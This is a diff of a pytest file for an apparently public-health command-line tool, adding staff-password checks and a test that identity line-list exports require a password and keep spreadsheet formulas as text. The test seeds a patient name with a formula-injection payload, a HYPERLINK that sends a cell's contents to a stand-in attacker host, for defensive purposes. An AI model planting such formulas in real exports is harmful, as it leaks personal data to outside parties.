@@ -6,16 +6,32 @@ import json
 from datetime import date
 
 import jsonschema
+import pytest
 from sqlalchemy import select
 
 from app.cli import main
 from app.hq.dhis2 import schema
+from app.hq.staff import set_staff
 from app.hq.models import hq_audit
 from hq_helpers import add_case, add_patient, add_site, add_visit, central_sqlite
 
 
 def run(argv: list[str]) -> int:
     return main(argv)
+
+
+PASSWORD = "hq-staff-2026"
+
+
+@pytest.fixture(autouse=True)
+def _password(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("SAYYAR_PASSWORD", PASSWORD)
+
+
+def staff(engine, site) -> None:  # type: ignore[no-untyped-def]
+    """The staff accounts the commands sign in with (a name alone is not enough: issue #12, hole 7)."""
+    set_staff(engine, username="l.karimi", role="headquarters", password=PASSWORD)
+    set_staff(engine, username="h.rigi", role="coordinator", password=PASSWORD, unit_id=site["F02"]["unit_id"])
 
 
 def test_report_and_exports_from_the_command_line(tmp_path, capsys) -> None:
@@ -26,6 +42,7 @@ def test_report_and_exports_from_the_command_line(tmp_path, capsys) -> None:
         p = add_patient(conn)
         add_visit(conn, p, site["F02"], date(2026, 11, 24))
         add_case(conn, "measles", site["F02"], date(2026, 11, 24), patient=p)
+    staff(engine, site)
     common = ["--db", str(db)]
     assert run(["hq", "report", "--week", "2026W47", "--out", str(tmp_path / "r.pdf"), *common]) == 0
     out = capsys.readouterr().out
@@ -60,7 +77,8 @@ def test_the_global_user_is_not_overridden_by_the_subcommand(tmp_path, capsys) -
     db = tmp_path / "central.db"
     engine = central_sqlite(str(db))
     with engine.begin() as conn:
-        add_site(conn)
+        site = add_site(conn)
+    staff(engine, site)
     engine.dispose()
     assert run(["--user", "l.karimi", "hq", "export", "dhis2", "--week", "2026W48", "--db", str(db),
                 "--out", str(tmp_path / "d.json")]) == 0
@@ -91,6 +109,7 @@ def test_site_settings_are_set_once_and_used_everywhere(tmp_path, capsys) -> Non
     with engine.begin() as conn:
         site = add_site(conn)
         add_case(conn, "measles", site["F02"], date(2026, 11, 29))
+    staff(engine, site)
     assert run(["hq", "config", "--db", str(db)]) == 0
     assert "saturday" in capsys.readouterr().out
     assert run(["hq", "config", "--week-start", "monday", "--db", str(db)]) == 2  # who?
@@ -130,3 +149,39 @@ def test_duplicates_across_units_by_code_and_reason(tmp_path, capsys) -> None:
     assert run(["hq", "duplicates", "--across-units", "--db", str(db)]) == 0
     out = capsys.readouterr().out
     assert "2 likely duplicate pair(s)" in out and "TAY1-000002-1\", \"merge\": \"ZAH1" in out
+
+
+def test_identity_exports_need_the_password_and_formulas_stay_text(tmp_path, capsys, monkeypatch) -> None:
+    """Issue #12, holes 7 and 8: ``--user NAME`` alone exported identities; a name typed as a formula ran in the
+    spreadsheet at headquarters."""
+    import io
+
+    import openpyxl
+
+    db = tmp_path / "central.db"
+    engine = central_sqlite(str(db))
+    with engine.begin() as conn:
+        site = add_site(conn)
+        p = add_patient(conn, given_name_latin='=HYPERLINK("http://evil.example/?"&A1,"open")',
+                        father_name_latin="@SUM(A1:A9)")
+        add_visit(conn, p, site["F02"], date(2026, 11, 24))
+        add_case(conn, "measles", site["F02"], date(2026, 11, 24), patient=p)
+    staff(engine, site)
+    out = tmp_path / "l.csv"
+    monkeypatch.setenv("SAYYAR_PASSWORD", "not-the-password")
+    assert run(["hq", "export", "linelist", "--out", str(out), "--user", "l.karimi", "--identities",
+                "--db", str(db)]) == 2
+    assert "wrong name or password" in capsys.readouterr().err and not out.exists()
+    with engine.connect() as conn:
+        assert conn.execute(select(hq_audit)).first() is None
+    monkeypatch.setenv("SAYYAR_PASSWORD", PASSWORD)
+    assert run(["hq", "export", "linelist", "--out", str(out), "--user", "l.karimi", "--identities",
+                "--db", str(db)]) == 0
+    text = out.read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK(" in text and "'@SUM(A1:A9)" in text
+    assert run(["hq", "export", "linelist", "--out", str(tmp_path / "l.xlsx"), "--user", "l.karimi",
+                "--identities", "--db", str(db)]) == 0
+    ws = openpyxl.load_workbook(io.BytesIO((tmp_path / "l.xlsx").read_bytes())).active
+    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells and all(c.data_type == "s" for c in cells)
+    engine.dispose()
